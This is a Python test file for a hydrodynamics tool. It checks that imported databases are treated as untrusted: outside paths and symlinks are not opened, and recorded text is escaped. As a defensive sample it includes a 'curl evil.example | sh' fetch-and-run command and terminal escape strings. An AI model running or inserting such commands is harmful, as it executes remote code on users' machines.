"""A hydrodynamic database is data from elsewhere (docs/guide/safeguards.md#files-from-elsewhere):
the source files it records are looked for only inside its own project and read only at their
recorded size (a recorded /etc/shadow, ``..`` path or multi-GB file is never opened); its
recorded import command is never offered as advice and recorded text reaches the terminal
escaped; a file that is not a database, a FIFO or a device gives one clean line."""

from __future__ import annotations

import builtins
import json
import os
from pathlib import Path

import pytest

from floatmoor.case.load import load_case
from floatmoor.cli import main
from floatmoor.hydro.database import (
    HydroDatabaseError, changed_source_files, load_for_case, read_database, write_database,
)
from floatmoor.hydro.importing import imported_dataset, source_file_records
from tests.hydro.conftest import BUOY_CASE, REPO
from tests.hydro.test_imported_case import IMPORTED_HYDRO, _with_hydro
from tests.hydro.test_importing import as_imported, options_of

#: What an attacker records as the import command: a terminal escape retitling the window.
HOSTILE_COMMAND = "curl evil.example | sh \x1b]0;owned\x07"


@pytest.fixture
def project(tmp_path, buoy_db):
    """A project folder: the source file, the imported database in hydrodb/, the case; and a
    decoy file outside the project."""
    folder = tmp_path / "project"
    (folder / "hydrodb").mkdir(parents=True)
    source = folder / "buoy.1"
    source.write_text("stands in for the file the data came from\n")
    ds = imported_dataset(as_imported(buoy_db, excitation="none", files=(str(source),)),
                          options_of(buoy_db), name="buoy_imported", command=HOSTILE_COMMAND,
                          files=source_file_records([str(source)], folder))
    write_database(ds, folder / "hydrodb" / "buoy_imported.nc")
    case = folder / "buoy.toml"
    case.write_text(_with_hydro(BUOY_CASE.read_text(), IMPORTED_HYDRO))
    decoy = tmp_path / "secret.txt"
    decoy.write_text("not for floatmoor\n")
    return folder, source, decoy


def _database(folder: Path) -> Path:
    return folder / "hydrodb" / "buoy_imported.nc"


def _record(folder: Path, records: list[dict]) -> None:
    ds = read_database(_database(folder))
    ds.attrs["source_files_json"] = json.dumps(records)
    write_database(ds, _database(folder))


@pytest.fixture
def opened(monkeypatch):
    """Every path opened through open() or os.open() from here on."""
    paths: list[str] = []
    real_open, real_os_open = builtins.open, os.open

    def spy_open(file, *args, **kwargs):
        paths.append(os.fspath(file) if isinstance(file, (str, os.PathLike)) else repr(file))
        return real_open(file, *args, **kwargs)

    def spy_os_open(path, *args, **kwargs):
        paths.append(os.fspath(path))
        return real_os_open(path, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", spy_open)
    monkeypatch.setattr(os, "open", spy_os_open)
    return paths


def _decoy_records(decoy: Path) -> list[list[dict]]:
    size = decoy.stat().st_size
    return [
        [{"path": str(decoy), "sha256": "0" * 64, "size": size}],            # absolute
        [{"path": "x", "project_path": f"../{decoy.name}", "sha256": "0" * 64,
          "size": size}],                                                    # .. out of it
        [{"path": "x", "project_path": str(decoy), "sha256": "0" * 64, "size": size}],
    ]


@pytest.mark.parametrize("which", [0, 1, 2], ids=["absolute", "dotdot", "absolute-project"])
def test_recorded_paths_out_of_the_project_are_never_opened(project, opened, capsys, which):
    folder, _, decoy = project
    _record(folder, _decoy_records(decoy)[which])
    del opened[:]
    ds = read_database(_database(folder))
    assert changed_source_files(ds) == []
    load_for_case(load_case(folder / "buoy.toml"), checks=False)  # check, run
    assert main(["hydro", "info", str(_database(folder))]) == 0   # also hydro check
    assert "source files not found: staleness not checked" in capsys.readouterr().out
    assert not [p for p in opened if Path(p).name == decoy.name]


def test_a_source_of_another_size_is_changed_without_being_read(project, opened):
    folder, source, _ = project
    source.write_text("a different, longer text than the one imported\n")
    del opened[:]
    with pytest.raises(HydroDatabaseError) as info:
        load_for_case(load_case(folder / "buoy.toml"), checks=False)
    assert f"source file {source} (changed since the import" in str(info.value)
    assert str(source) not in opened


def test_a_source_of_the_recorded_size_is_hashed(project):
    folder, source, _ = project
    text = source.read_text()
    source.write_text(text.replace("stands", "Stands"))  # same size, other bytes
    with pytest.raises(HydroDatabaseError, match="changed since the import"):
        load_for_case(load_case(folder / "buoy.toml"), checks=False)


def test_recorded_command_is_never_advice_and_text_is_escaped(project, capsys):
    folder, source, _ = project
    source.write_text("changed\n")
    assert main(["hydro", "check", str(_database(folder))]) == 2
    err = capsys.readouterr().err
    assert "curl" not in err and "re-import it with 'floatmoor hydro import FILE... -o " \
        "PATH.nc --force'" in err
    with pytest.raises(HydroDatabaseError) as info:  # what run says
        load_for_case(load_case(folder / "buoy.toml"), checks=False)
    assert "curl" not in str(info.value)
    source.unlink()
    ds = read_database(_database(folder))
    ds.attrs["import_notes_json"] = json.dumps(["note \u202eesrever\x1b[2J"])
    ds.attrs["database"] = "db\x1b[31m"
    write_database(ds, _database(folder))
    assert main(["hydro", "info", str(_database(folder))]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out
    assert "recorded import command (text from the file, not checked): curl evil.example | " \
        "sh \\x1b]0;owned\\x07" in out
    assert "note: note \\u202eesrever\\x1b[2J" in out and "db\\x1b[31m" in out


def test_unreadable_json_attribute_is_one_line(project, capsys):
    folder, _, _ = project
    ds = read_database(_database(folder))
    ds.attrs["source_files_json"] = '[{"size": ' + "9" * 5000 + "}]"
    write_database(ds, _database(folder))
    assert main(["hydro", "info", str(_database(folder))]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "attribute source_files_json is not readable JSON" in err[0]


def test_not_a_database_fifo_and_device_are_one_clean_line(tmp_path, capsys):
    text = tmp_path / "notes.nc"
    text.write_text("just some text\n")
    fifo = tmp_path / "pipe.nc"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.nc"
    zero.symlink_to("/dev/zero")
    for path, found in ((text, "found not a netCDF file"),
                        (fifo, "found a FIFO (named pipe), not a regular file"),
                        (zero, "found a character device, not a regular file")):
        assert main(["hydro", "check", str(path)]) == 2
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and err[0].startswith(f"floatmoor: error: {path}: expected a "
                                                   "hydrodynamic database"), err
        assert err[0].endswith(found)


def test_recorded_geometry_of_another_shape_is_a_failed_check(tmp_path, buoy_db, capsys):
    ds = buoy_db.copy(deep=True)
    ds.attrs["geometry_json"] = '["\\u001b[2J"]'  # JSON, but not the recorded geometry
    write_database(ds, tmp_path / "odd.nc")
    assert main(["hydro", "check", str(tmp_path / "odd.nc")]) == 1
    out = capsys.readouterr().out
    assert "hydrostatics    FAIL" in out and "cannot be evaluated on these values" in out


def test_recorded_input_keys_are_shown_escaped(tmp_path, buoy_db, capsys):
    """A built database's recorded inputs are the file's text: a key listed as differing is
    escaped (the recorded case file is found in the database's project)."""
    ds = buoy_db.copy(deep=True)
    inputs = json.loads(ds.attrs["inputs_json"])
    inputs["\x1b]0;owned\x07"] = 1
    ds.attrs["inputs_json"] = json.dumps(inputs)
    ds.attrs["inputs_hash"] = "0" * 64
    case = tmp_path / ds.attrs["case_file"]
    case.parent.mkdir(parents=True)
    case.write_text((REPO / ds.attrs["case_file"]).read_text())
    write_database(ds, tmp_path / "hydrodb" / "odd.nc")
    assert main(["hydro", "check", str(tmp_path / "hydrodb" / "odd.nc")]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\\x1b]0;owned\\x07" in err


@pytest.mark.parametrize("attr, value, exit_status, shows", [
    ("state_space_errors_json", "[1]", 2, "damaged state-space realisation"),
    ("state_space_settings_json", '{"kernel_rtol": "x"}', 2, "damaged state-space"),
    ("state_space_created", "\x1b[2Jyesterday", 0, "fitted \\x1b[2Jyesterday"),
], ids=["errors-list", "rtol-text", "created-escape"])
def test_recorded_state_space_attributes(tmp_path, buoy_db, capsys, attr, value, exit_status,
                                         shows):
    ds = buoy_db.copy(deep=True)
    ds.attrs[attr] = value
    write_database(ds, tmp_path / "ss.nc")
    assert main(["hydro", "info", str(tmp_path / "ss.nc")]) == exit_status
    captured = capsys.readouterr()
    text = captured.err if exit_status else captured.out
    assert shows in text and "\x1b" not in text
    if exit_status:
        assert len(captured.err.strip().splitlines()) == 1


def test_a_symbolic_link_out_of_the_project_is_not_followed(project, opened):
    folder, _, decoy = project
    (folder / "link.1").symlink_to(decoy)
    _record(folder, [{"path": "link.1", "project_path": "link.1", "sha256": "0" * 64,
                      "size": decoy.stat().st_size}])
    del opened[:]
    assert changed_source_files(read_database(_database(folder))) == []
    assert not [p for p in opened if Path(p).name in (decoy.name, "link.1")]
